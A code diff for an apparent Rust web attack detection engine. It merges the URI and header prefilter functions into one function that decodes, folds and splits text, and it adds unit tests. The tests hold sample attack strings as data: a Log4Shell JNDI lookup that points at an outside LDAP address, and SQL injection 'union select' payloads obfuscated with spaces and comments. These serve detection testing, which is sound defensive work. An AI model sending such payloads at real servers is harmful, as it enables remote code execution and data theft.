@@ -101,19 +101,19 @@ impl Ruleset {
         let Kind::Http(http) = &event.kind;
         let first = hits.len();
         let Scratch { texts, candidates, user_agents, referers } = scratch;
-        if self.uri_may_match(http.uri, texts, candidates) {
-            texts.split_uri(http.uri);
+        if may_match(&self.uri, http.uri, Target::Uri, texts, candidates) {
+            texts.split(http, Target::Uri);
             self.match_candidates(http, &URI_TARGETS, texts, candidates, first, hits);
         }
-        let suspicious = !user_agents.is_clean(http.user_agent, |text| {
-            !text_may_match(&self.user_agent, text, Target::UserAgent, texts, candidates)
-        });
-        if suspicious {
+        let agent = http.user_agent;
+        if !user_agents.is_clean(agent, |text| !may_match(&self.user_agent, text, Target::UserAgent, texts, candidates))
+        {
+            texts.split(http, Target::UserAgent);
             self.match_candidates(http, &[Target::UserAgent], texts, candidates, first, hits);
         }
-        let suspicious = !referers
-            .is_clean(http.referer, |text| !text_may_match(&self.referer, text, Target::Referer, texts, candidates));
-        if suspicious {
+        let referer = http.referer;
+        if !referers.is_clean(referer, |text| !may_match(&self.referer, text, Target::Referer, texts, candidates)) {
+            texts.split(http, Target::Referer);
             self.match_candidates(http, &[Target::Referer], texts, candidates, first, hits);
         }
         let sum: u32 = hits[first..].iter().map(|hit| u32::from(self.rules[usize::from(hit.rule)].spec.score)).sum();
@@ -136,27 +136,6 @@ impl Ruleset {
             })
         };
         hits.iter().filter_map(explain).collect()
-    }
-
-    /// Whether any literal of a URI rule is in any view of `uri`; leaves the rules in `candidates`.
-    #[inline]
-    fn uri_may_match(&self, uri: &[u8], texts: &mut Texts, candidates: &mut Vec<u16>) -> bool {
-        candidates.clear();
-        let foldable = if is_encoded(uri) {
-            let whole = texts.decoded(uri, Plus::SpaceInQuery);
-            self.uri.mark(whole, candidates);
-            is_foldable(whole)
-        } else {
-            self.uri.mark(uri, candidates);
-            // Without an escape there is no odd white space; a comment has `*`, a reference `;`.
-            memchr::memchr2(b'*', b';', uri).is_some() && is_foldable(uri)
-        };
-        if foldable {
-            // Folding joins text within a part, never across parts: look at each by itself.
-            texts.split_uri(uri);
-            texts.folded().for_each(|text| self.uri.mark(text, candidates));
-        }
-        !candidates.is_empty()
     }
 
     /// Runs the candidates' patterns on those of their targets that are among `targets`. A rule
@@ -192,18 +171,29 @@ impl Ruleset {
 /// The targets that are parts of the URI.
 const URI_TARGETS: [Target; 4] = [Target::Uri, Target::Path, Target::Query, Target::Args];
 
-/// Whether any literal is in any view of a text that is not the URI; leaves the rules in
-/// `candidates` and the text split in `texts`.
-fn text_may_match(
-    prefilter: &Prefilter,
-    text: &[u8],
-    target: Target,
-    texts: &mut Texts,
-    candidates: &mut Vec<u16>,
-) -> bool {
+/// Whether any literal is in any view of `raw`, which is the URI or the text of `target`; leaves
+/// the rules in `candidates`.
+#[inline]
+fn may_match(prefilter: &Prefilter, raw: &[u8], target: Target, texts: &mut Texts, candidates: &mut Vec<u16>) -> bool {
     candidates.clear();
-    texts.split_text(text, target);
-    texts.views().for_each(|text| prefilter.mark(text, candidates));
+    let foldable = if is_encoded(raw) {
+        let whole = texts.decoded(raw, if target == Target::Uri { Plus::SpaceInQuery } else { Plus::Literal });
+        prefilter.mark(whole, candidates);
+        is_foldable(whole)
+    } else {
+        prefilter.mark(raw, candidates);
+        // Without an escape, only these can begin what folding changes.
+        memchr::memchr3(b'*', b';', b' ', raw).is_some() && is_foldable(raw)
+    };
+    if foldable {
+        // Folding joins text within a part, never across parts: look at each by itself.
+        if target == Target::Uri {
+            texts.split_uri(raw)
+        } else {
+            texts.split_text(raw, target)
+        }
+        texts.folded().for_each(|text| prefilter.mark(text, candidates));
+    }
     !candidates.is_empty()
 }
 
@@ -241,4 +231,35 @@ impl Scratch {
 #[inline]
 pub fn hash(text: &[u8]) -> u32 {
     FixedState::with_seed(1).hash_one(text) as u32
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn matched(http: Http<'_>) -> Vec<String> {
+        let rules = Ruleset::new(&[], &[]).unwrap();
+        let event = Event { time: None, source_ip: None, kind: Kind::Http(http) };
+        let mut hits = vec![];
+        rules.examine(&event, &mut Scratch::new(), &mut hits);
+        hits.iter().map(|hit| rules.rules[usize::from(hit.rule)].id.to_string()).collect()
+    }
+
+    #[test]
+    fn a_rule_counts_once_a_line_wherever_it_matches() {
+        let jndi = b"/?x=${jndi:ldap://198.51.100.1/a}";
+        let once = matched(Http { method: b"GET", uri: jndi, ..Http::default() });
+        let twice =
+            matched(Http { method: b"GET", uri: jndi, user_agent: &jndi[4..], referer: &jndi[4..], ..Http::default() });
+        let count = |ids: &[String]| ids.iter().filter(|id| *id == "rce-log4shell").count();
+        assert_eq!((count(&once), count(&twice)), (1, 1), "{twice:?}");
+    }
+
+    #[test]
+    fn what_is_split_by_spaces_or_comments_is_found() {
+        for uri in ["/?q=1 union   select 2", "/?q=1+union+++select+2", "/?q=1/*x*/union/*y*/select/**/2"] {
+            let ids = matched(Http { method: b"GET", uri: uri.as_bytes(), ..Http::default() });
+            assert!(ids.iter().any(|id| id == "sqli-union-select"), "{uri}: {ids:?}");
+        }
+    }
 }
